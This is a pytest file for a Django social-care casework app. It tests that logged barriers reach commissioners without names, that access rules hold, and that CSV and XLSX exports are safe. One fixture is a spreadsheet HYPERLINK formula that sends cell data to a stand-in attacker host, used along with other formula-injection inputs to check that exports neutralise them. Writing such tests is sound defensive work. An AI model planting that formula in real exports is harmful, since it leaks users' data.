"""Barriers met in casework reach commissioners as system issues, never with a name."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from joinedup.accounts.roles import Role
from joinedup.assessment import queries, services
from joinedup.assessment.models import Barrier, SystemIssue
from joinedup.people.models import Person
from joinedup.plans.models import PlanStep, SupportPlan
from tests.conftest import make_user

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("threshold_five")]  # worked for 5


@pytest.fixture
def blocked_step(person, other_org):
    plan = SupportPlan.objects.create(person=person)
    return PlanStep.objects.create(
        plan=plan,
        position=1,
        area="housing",
        title="A hostel place",
        owner=other_org,
        status="blocked",
        blocked_by="Hostel will not take him until detox is complete",
    )


@pytest.fixture
def commissioner(owner_org):
    return make_user("c@example.org", owner_org, Role.COMMISSIONER, device=False)


def log(client, person, step, **overrides):
    data = {
        "responsible": step.owner_id,
        "rule": "No admission while using",
        "category": "thresholds",
        "effect": "Sleeping rough for six weeks",
        "delay_days": 42,
        **overrides,
    }
    url = reverse("assessment:person-barrier", args=[person.pk]) + f"?step={step.pk}"
    return client.post(url, data)


def test_a_keyworker_logs_a_threshold_barrier_on_a_plan_step(
    signed_in, alice, person, blocked_step, other_org
):
    plan_page = signed_in(alice).get(reverse("plans:plan", args=[person.pk])).content.decode()
    assert "Log this as a barrier" in plan_page
    response = log(signed_in(alice), person, blocked_step)
    assert response["Location"] == reverse("plans:plan", args=[person.pk])
    barrier = Barrier.objects.get()
    assert (barrier.person, barrier.plan_step, barrier.responsible) == (
        person,
        blocked_step,
        other_org,
    )
    assert barrier.raised_by == alice


def test_commissioners_group_barriers_into_an_issue_and_never_see_the_name(
    signed_in, client, alice, person, blocked_step, commissioner
):
    log(signed_in(alice), person, blocked_step)
    log(signed_in(alice), person, blocked_step, delay_days=10)
    signed_in(commissioner)
    page = client.get(reverse("assessment:barriers")).content.decode()
    assert "No admission while using" in page and "Dana" not in page
    assert "A person (not shown to you)" in page
    ids = list(Barrier.objects.values_list("pk", flat=True))
    response = client.post(
        reverse("assessment:group"),
        {"barrier": ids, "title": "Hostels exclude people who use drugs"},
    )
    issue = SystemIssue.objects.get()
    assert response["Location"] == reverse("assessment:issue", args=[issue.pk])
    assert issue.owner == commissioner and issue.barriers.count() == 2
    detail = client.get(response["Location"]).content.decode()
    assert "Hostels exclude people who use drugs" in detail and "Dana" not in detail
    client.post(
        response["Location"], {"action": "Agree a harm-reduction admission policy", "outcome": ""}
    )
    issue.refresh_from_db()
    assert issue.status == "acting" and issue.actions.count() == 1


def test_the_report_ranks_issues_by_people_then_delay_and_suppresses_small_numbers(
    alice, owner_org, person
):
    big = SystemIssue.objects.create(title="Waiting lists")
    small = SystemIssue.objects.create(title="Forms only online")
    for n in range(6):
        someone = Person.objects.create(first_name=f"P{n}", last_name="X")
        services.log_barrier(
            alice,
            owner_org,
            person=someone,
            rule="12-week wait",
            category="capacity",
            effect="Waited",
            delay_days=84,
            system_issue=big,
        )
    services.log_barrier(
        alice,
        owner_org,
        person=person,
        rule="Online form",
        category="access",
        effect="Could not apply",
        delay_days=200,
        system_issue=small,
    )
    report = queries.issue_report()
    assert [r["issue"] for r in report] == [big, small]
    assert report[0]["people"] == "6" and report[0]["delay"] == 504
    assert report[1]["people"] == "fewer than 5"


def test_other_organisations_workers_do_not_see_the_barrier_at_all(
    signed_in, alice, charlie, person, blocked_step
):
    log(signed_in(alice), person, blocked_step)
    page = signed_in(charlie).get(reverse("assessment:barriers")).content.decode()
    assert "No admission while using" not in page and "Dana" not in page


def test_a_colleague_who_can_see_the_person_sees_the_name(
    signed_in, alice, bob, person, blocked_step
):
    log(signed_in(alice), person, blocked_step)
    page = signed_in(bob).get(reverse("assessment:barriers")).content.decode()
    assert "For: Dana Example, holding up “A hostel place”" in page


def test_workers_cannot_open_the_commissioners_report(signed_in, alice):
    assert signed_in(alice).get(reverse("assessment:issues")).status_code == 403


def test_the_barriers_download_carries_no_names(
    signed_in, alice, person, blocked_step, commissioner
):
    log(signed_in(alice), person, blocked_step)
    body = signed_in(commissioner).get(reverse("assessment:barriers-export", args=["csv"]))
    text = body.content.decode()
    assert "No admission while using" in text and "Dana" not in text
    assert text.splitlines()[1].endswith(",True")


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize("effect", [FORMULA, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"])
def test_a_barrier_written_as_a_formula_is_plain_text_in_the_csv(
    signed_in, alice, person, blocked_step, commissioner, effect
):
    log(signed_in(alice), person, blocked_step, effect=effect, delay_days=3)
    response = signed_in(commissioner).get(reverse("assessment:barriers-export", args=["csv"]))
    row = next(csv.DictReader(io.StringIO(response.content.decode())))
    stored = Barrier.objects.get().effect  # the form trims a leading tab or return
    assert stored.startswith(("=", "+", "-", "@")) and row["effect"] == "'" + stored
    assert row["delay_days"] == "3"


def test_a_barrier_written_as_a_formula_is_plain_text_in_the_spreadsheet(
    signed_in, alice, person, blocked_step, commissioner
):
    log(signed_in(alice), person, blocked_step, effect=FORMULA, rule="-not a number", delay_days=7)
    response = signed_in(commissioner).get(reverse("assessment:barriers-export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    cells = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert (cells["effect"].value, cells["effect"].data_type) == ("'" + FORMULA, "s")
    assert cells["rule"].value == "'-not a number"
    assert (cells["delay_days"].value, cells["delay_days"].data_type) == (7, "n")
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
